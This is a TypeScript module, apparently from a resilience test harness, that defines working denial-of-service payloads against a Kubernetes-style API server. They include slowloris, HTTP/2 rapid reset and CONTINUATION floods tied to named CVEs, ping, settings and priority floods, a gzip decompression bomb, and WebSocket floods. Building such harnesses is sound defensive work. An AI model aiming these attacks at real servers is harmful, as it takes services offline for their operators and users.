import { gzipSync } from 'node:zlib';
import { Flag, FrameType, frame, GREETING, headerBlock, uint32 } from './http2-frames.ts';

/** One connection's worth of an attack. It runs until the server hangs up. */
export interface Attack {
  readonly alpn: 'h2' | 'http/1.1';
  /** Connections that are held at once; one that was ended is followed by another. */
  readonly connections: number;
  /** Sent as the connection opens. */
  readonly opening?: Uint8Array;
  /** Sent again and again with a pause between, unless the server takes no more. */
  readonly piece: (round: number) => Uint8Array;
  readonly pauseMs: number;
  /** Reads nothing of what the server answers. */
  readonly isDeaf?: boolean;
}

const PODS = '/api/v1/pods';
const STREAMS_A_PIECE = 200;
const FRAMES_A_PIECE = 2000;

const repeat = (bytes: Buffer, times: number) => Buffer.concat(Array.from({ length: times }, () => bytes));
const GET_PODS = headerBlock({ method: 'GET', path: PODS });
const MAX_STREAM = 2 ** 31 - 1;

const BOMB_BYTES = 256 * 2 ** 20;

function compressedRequest(token: string): Buffer {
  const body = gzipSync(Buffer.alloc(BOMB_BYTES, ' '));
  const fields = `Content-Type: application/json\r\nContent-Encoding: gzip\r\nContent-Length: ${body.length}\r\nAuthorization: Bearer ${token}`;
  const head = `POST /api/v1/namespaces/default/configmaps HTTP/1.1\r\nHost: x\r\n${fields}\r\n\r\n`;
  return Buffer.concat([Buffer.from(head), body]);
}

/** What costs too much to be made each time. */
function once(make: () => Buffer): () => Buffer {
  let made: Buffer | undefined;
  return () => (made ??= make());
}

function upgradeHead(path: string, token?: string): string {
  const fields = 'Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13';
  const identity = token === undefined ? '' : `Authorization: Bearer ${token}\r\n`;
  return `GET ${path} HTTP/1.1\r\nHost: x\r\n${identity}${fields}\r\nSec-WebSocket-Key: MDEyMzQ1Njc4OWFiY2RlZg==\r\n\r\n`;
}

/** Ids of streams a client opens are odd and grow; at the end of them the connection is worth nothing anyway. */
const streamId = (round: number, index: number) => Math.min(2 * (round * STREAMS_A_PIECE + index) + 1, MAX_STREAM);

function requests(round: number, write: (id: number) => Buffer[]): Buffer {
  return Buffer.concat(Array.from({ length: STREAMS_A_PIECE }, (_, index) => write(streamId(round, index))).flat());
}

/** `token` is that of somebody who may read ConfigMaps and Namespaces; the others come as nobody. */
export const attacksAs = (token: string) =>
  ({
    /** A head that never ends, a byte at a time. */
    slowloris: {
      alpn: 'http/1.1',
      connections: 300,
      opening: Buffer.from(`GET ${PODS} HTTP/1.1\r\nHost: x\r\nX-Slow: `),
      piece: () => Buffer.from('a'),
      pauseMs: 500,
    },
    /** A body that never ends, a byte at a time. */
    'slow body': {
      alpn: 'http/1.1',
      connections: 300,
      opening: Buffer.from(
        `POST ${PODS} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{`,
      ),
      piece: () => Buffer.from(' '),
      pauseMs: 500,
    },
    'oversized headers': {
      alpn: 'http/1.1',
      connections: 8,
      piece: () => Buffer.from(`GET ${PODS} HTTP/1.1\r\nHost: x\r\nX-Large: ${'x'.repeat(80_000)}\r\n\r\n`),
      pauseMs: 20,
    },
    /** CVE-2024-27316 and its kin: header blocks without an end. */
    'headers of HTTP/2 that go on': {
      alpn: 'h2',
      connections: 8,
      opening: Buffer.concat([GREETING, frame(FrameType.headers, Flag.none, 1, GET_PODS)]),
      piece: () =>
        frame(FrameType.continuation, Flag.none, 1, headerBlock({ method: 'GET', path: `/${'x'.repeat(100)}` })),
      pauseMs: 20,
    },
    /** CVE-2023-44487: requests that are taken back before anybody answers. */
    'rapid resets': {
      alpn: 'h2',
      connections: 8,
      opening: GREETING,
      piece: (round) =>
        requests(round, (id) => [
          frame(FrameType.headers, Flag.endHeaders | Flag.endStream, id, GET_PODS),
          frame(FrameType.resetStream, Flag.none, id, uint32(8)),
        ]),
      pauseMs: 20,
    },
    'pings without end': {
      alpn: 'h2',
      connections: 4,
      opening: GREETING,
      piece: () => repeat(frame(FrameType.ping, Flag.none, 0, Buffer.alloc(8)), FRAMES_A_PIECE),
      pauseMs: 20,
    },
    'pings whose answers nobody reads': {
      alpn: 'h2',
      connections: 4,
      opening: GREETING,
      piece: () => repeat(frame(FrameType.ping, Flag.none, 0, Buffer.alloc(8)), FRAMES_A_PIECE),
      pauseMs: 20,
      isDeaf: true,
    },
    'settings without end': {
      alpn: 'h2',
      connections: 4,
      opening: GREETING,
      piece: () => repeat(frame(FrameType.settings, Flag.none, 0), FRAMES_A_PIECE),
      pauseMs: 20,
    },
    'priorities without end': {
      alpn: 'h2',
      connections: 4,
      opening: GREETING,
      piece: () => repeat(frame(FrameType.priority, Flag.none, 3, Buffer.from([0, 0, 0, 1, 7])), FRAMES_A_PIECE),
      pauseMs: 20,
    },
    'empty data without end': {
      alpn: 'h2',
      connections: 4,
      opening: Buffer.concat([
        GREETING,
        frame(FrameType.headers, Flag.endHeaders, 1, headerBlock({ method: 'POST', path: PODS })),
      ]),
      piece: () => repeat(frame(FrameType.data, Flag.none, 1), FRAMES_A_PIECE),
      pauseMs: 20,
    },
    /** CVE-2019-9511 and 9517: large answers are asked for and not taken. */
    'answers that nobody takes': {
      alpn: 'h2',
      connections: 4,
      opening: GREETING,
      piece: (round) =>
        round > 0
          ? new Uint8Array()
          : requests(0, (id) => [
              frame(
                FrameType.headers,
                Flag.endHeaders | Flag.endStream,
                id,
                headerBlock({
                  method: 'GET',
                  path: '/api/v1/configmaps',
                  fields: { authorization: `Bearer ${token}` },
                }),
              ),
            ]),
      pauseMs: 100,
      isDeaf: true,
    },
    /** A megabyte of JSON that is a gigabyte when it is inflated; nobody here inflates what comes in. */
    'compressed bodies': {
      alpn: 'http/1.1',
      connections: 4,
      piece: once(() => compressedRequest(token)),
      pauseMs: 50,
    },
    'upgrades to WebSocket': {
      alpn: 'http/1.1',
      connections: 8,
      piece: () => Buffer.from(upgradeHead(`${PODS}?watch=1`)),
      pauseMs: 50,
    },
    /** Frames where nobody expects any: a watch only speaks. */
    'frames of WebSocket without end': {
      alpn: 'http/1.1',
      connections: 4,
      opening: Buffer.from(upgradeHead('/api/v1/namespaces?watch=1', token)),
      piece: () => repeat(Buffer.from([0x82, 0x80, 1, 2, 3, 4]), FRAMES_A_PIECE),
      pauseMs: 20,
    },
  }) as const satisfies Record<string, Attack>;
